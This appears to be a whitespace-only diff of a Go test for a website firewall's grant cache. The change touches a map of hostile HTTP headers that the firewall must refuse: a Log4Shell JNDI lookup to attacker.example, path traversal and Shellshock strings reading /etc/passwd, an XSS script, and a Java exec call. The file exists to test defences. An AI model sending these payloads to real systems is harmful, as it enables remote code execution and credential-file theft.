@@ -132,11 +132,11 @@ func sameVerdict(a, b engine.Verdict) bool {
 // whose key has a cached grant: the website firewall refuses each (it
 // reads every header), so none may be answered from the cache.
 var hostileHeaders = map[string]string{
-	"X-Api-Version":  "${jndi:ldap://attacker.example/a}",
-	"X-Custom-Path":  "../../../../etc/passwd",
-	"X-Shellshock":   "() { :; }; /bin/cat /etc/passwd",
-	"X-Debug":        "<script>alert(1)</script>",
-	"X-Java":         "java.lang.Runtime.getRuntime().exec('id')",
+	"X-Api-Version": "${jndi:ldap://attacker.example/a}",
+	"X-Custom-Path": "../../../../etc/passwd",
+	"X-Shellshock":  "() { :; }; /bin/cat /etc/passwd",
+	"X-Debug":       "<script>alert(1)</script>",
+	"X-Java":        "java.lang.Runtime.getRuntime().exec('id')",
 }
 
 // TestGrantCacheCorpus proves the key complete on the labelled traffic
